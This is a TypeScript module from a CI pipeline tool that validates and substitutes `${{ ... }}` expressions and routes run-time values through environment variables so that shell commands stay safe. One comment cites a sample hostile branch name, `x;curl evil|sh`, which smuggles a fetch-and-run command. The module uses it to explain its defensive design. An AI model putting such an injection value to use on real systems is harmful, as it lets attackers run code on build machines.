import type { RunContext } from './types.js';

/**
 * `${{ ... }}` expressions in pipeline text. `matrix.<key>` is replaced when the matrix is expanded; the run-time
 * ones (`branch`, `sha`, `event`, `run.id`, `job.id`) are left in the effective pipeline and filled in when a job
 * runs: `substitute` for plain text (env values), `toShellVariables` + `runtimeEnv` for `run` commands.
 */

const EXPRESSION = /\$\{\{\s*([^}]*?)\s*\}\}/g;

export type RuntimeExpression = 'branch' | 'sha' | 'event' | 'run.id' | 'job.id';

/** The environment variable each run-time expression is passed in (runner and exports alike). */
export const RUNTIME_VARIABLES: Record<RuntimeExpression, string> = {
  branch: 'GANTRY_BRANCH',
  sha: 'GANTRY_SHA',
  event: 'GANTRY_EVENT',
  'run.id': 'GANTRY_RUN_ID',
  'job.id': 'GANTRY_JOB_ID',
};

export const RUNTIME_EXPRESSIONS = Object.keys(RUNTIME_VARIABLES) as RuntimeExpression[];

export function isRuntimeExpression(expr: string): expr is RuntimeExpression {
  return Object.hasOwn(RUNTIME_VARIABLES, expr);
}

/** Every `${{ expr }}` in a text, with the trimmed expression. */
export function findExpressions(text: string): string[] {
  return [...text.matchAll(EXPRESSION)].map((m) => m[1] ?? '');
}

/**
 * What is wrong with the expressions of one text, as "expected ..." messages. `runtime` says whether run-time
 * expressions are allowed in this field (they are in `run` and env values; elsewhere only `matrix.*`).
 */
export function checkExpressions(text: string, opts: { matrixKeys: readonly string[]; runtime: boolean }): string[] {
  const messages: string[] = [];
  for (const expr of findExpressions(text)) {
    if (expr.startsWith('matrix.')) {
      const key = expr.slice('matrix.'.length);
      if (!opts.matrixKeys.includes(key)) {
        messages.push(
          opts.matrixKeys.length === 0
            ? `expected no matrix expression (the job has no matrix), found \${{ ${expr} }}`
            : `expected a matrix key of this job (${opts.matrixKeys.join(', ')}), found \${{ ${expr} }}`,
        );
      }
    } else if (isRuntimeExpression(expr)) {
      if (!opts.runtime) {
        messages.push(`expected only matrix.* expressions here (run-time values go in run or env), found \${{ ${expr} }}`);
      }
    } else {
      const allowed = opts.runtime ? `matrix.<key>, ${RUNTIME_EXPRESSIONS.join(', ')}` : 'matrix.<key>';
      const hint = expr.startsWith('secrets.') ? ' (secrets go in env as { secret: NAME })' : '';
      messages.push(`expected an expression among ${allowed}${hint}, found \${{ ${expr} }}`);
    }
  }
  return messages;
}

/** Replaces `${{ matrix.key }}` with the job's matrix values; other expressions are left as they are. */
export function substituteMatrix(text: string, values: Record<string, string>): string {
  return text.replace(EXPRESSION, (whole, expr: string) => {
    if (!expr.startsWith('matrix.')) return whole;
    const value = values[expr.slice('matrix.'.length)];
    return value ?? whole;
  });
}

/** What run-time expressions read: the run, and (for `job.id`) the job. */
export interface ExpressionContext extends RunContext {
  jobId?: string;
}

function runtimeValue(expr: RuntimeExpression, ctx: ExpressionContext): string | undefined {
  switch (expr) {
    case 'branch':
      return ctx.branch;
    case 'sha':
      return ctx.sha;
    case 'event':
      return ctx.event;
    case 'run.id':
      return ctx.runId;
    case 'job.id':
      return ctx.jobId;
  }
}

/**
 * Replaces run-time expressions with their values, as text. For env values and display text; for `run` commands
 * use `toShellVariables` and `runtimeEnv` instead, so a branch named `x;curl evil|sh` stays data.
 */
export function substitute(text: string, ctx: ExpressionContext): string {
  return text.replace(EXPRESSION, (whole, expr: string) => {
    if (!isRuntimeExpression(expr)) return whole;
    return runtimeValue(expr, ctx) ?? whole;
  });
}

/**
 * A `run` command with each run-time expression turned into a reference to its environment variable
 * (`${{ branch }}` -> `${GANTRY_BRANCH}`). The shell expands it without re-parsing the value, so branch names
 * cannot inject commands (the same rule GitHub gives for `github.head_ref`). Inside single quotes it stays
 * literal, as any shell variable does. Run it with `runtimeEnv(ctx)` in the environment.
 */
export function toShellVariables(run: string): string {
  return run.replace(EXPRESSION, (whole, expr: string) =>
    isRuntimeExpression(expr) ? `\${${RUNTIME_VARIABLES[expr]}}` : whole,
  );
}

/** The environment variables that carry the run-time values to a step's process. */
export function runtimeEnv(ctx: ExpressionContext): Record<string, string> {
  const env: Record<string, string> = {
    GANTRY_BRANCH: ctx.branch,
    GANTRY_SHA: ctx.sha,
    GANTRY_EVENT: ctx.event,
    GANTRY_RUN_ID: ctx.runId,
  };
  if (ctx.jobId !== undefined) env.GANTRY_JOB_ID = ctx.jobId;
  return env;
}

/** Maps each run-time expression of a text through `replace` (exporters translate them to their CI's syntax). */
export function mapRuntimeExpressions(text: string, replace: (expr: RuntimeExpression) => string): string {
  return text.replace(EXPRESSION, (whole, expr: string) => (isRuntimeExpression(expr) ? replace(expr) : whole));
}
